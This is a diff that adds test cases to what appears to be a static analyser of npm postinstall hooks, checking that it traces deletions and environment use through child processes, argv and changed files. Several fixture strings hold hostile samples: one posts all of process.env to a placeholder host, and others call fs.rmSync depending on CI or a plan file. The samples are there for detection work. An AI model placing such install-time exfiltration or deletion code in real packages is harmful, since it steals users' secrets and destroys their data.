@@ -65,12 +65,44 @@ describe('what a command hands over to a file that it starts', () => {
       assert.deepEqual(deleted, says);
     });
 
+  const told = (files: Readonly<Record<string, string | object>>, hook: string): string[] =>
+    symbolicUses({
+      'package.json': { name: 'x', scripts: { postinstall: hook, take: 'node cli.js drop' } },
+      'plan.json': { live: false },
+      ...files,
+    });
+
+  it('leaves the rest of the environment as it is', () => {
+    const cli = `fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(process.env) }); if (Object.keys(process.env).includes('CI')) require('fs').rmSync('x');`;
+    const said = told({ 'cli.js': cli }, 'cross-env ACT=1 node cli.js').join();
+    assert.match(said, /from process\.env/);
+    assert.match(said, /rmSync\(x\)/);
+  });
+
+  for (const [when, hook, cli] of [
+    ['another command may have changed', 'mv live.json plan.json && node cli.js', ''],
+    ['it has changed itself', 'node cli.js', `require('fs').writeFileSync('plan.json', process.env.PLAN);`],
+  ] as const)
+    it(`takes no file for what it was that ${when}`, () => {
+      const read = `${cli} if (JSON.parse(require('fs').readFileSync('plan.json', 'utf8')).live) require('fs').rmSync('x');`;
+      assert.ok(told({ 'cli.js': read }, hook).some(line => /rmSync\(x\)/.test(line)));
+    });
+
+  it('is not handed to what is started in another folder', () => {
+    const cli = `require('child_process').fork(__dirname + '/child.js', [], { cwd: require('os').homedir() });`;
+    const child = `if (JSON.parse(require('fs').readFileSync('plan.json', 'utf8')).live) require('fs').rmSync('x');`;
+    assert.ok(told({ 'cli.js': cli, 'child.js': child }, 'node cli.js').some(line => /rmSync\(x\)/.test(line)));
+  });
+
+  for (const hook of ['yarn take b', "node cli.js 'b'", 'ts-node cli.js -- b'])
+    it(`says nothing of words that are handed over otherwise: ${hook}`, () => {
+      assert.ok(told({ 'cli.js': `if (process.argv.length > 3) require('fs').rmSync('x');` }, hook).some(line => /rmSync\(x\)/.test(line)));
+    });
+
   it('starts each file once before any is started with something else', () => {
     const files = Object.fromEntries([...'abc'].map(name => [`${name}.js`, `require('fs').rmSync('${name}' + process.argv[2]);`]));
     const hook = [...Array.from({ length: 20 }, (_, at) => `node a.js ${at}`), 'node b.js 1', 'node c.js 1'].join(' && ');
     const said = symbolicUses({ 'package.json': { name: 'x', scripts: { postinstall: hook } }, ...files });
-    assert.ok(
-      said.includes('install fs.rmSync(c1)') && said.includes('install fs.rmSync(a13)') && !said.includes('install fs.rmSync(a14)'),
-    );
+    assert.ok(said.includes('install fs.rmSync(c1)') && said.includes('install fs.rmSync(a*)'));
   });
 });
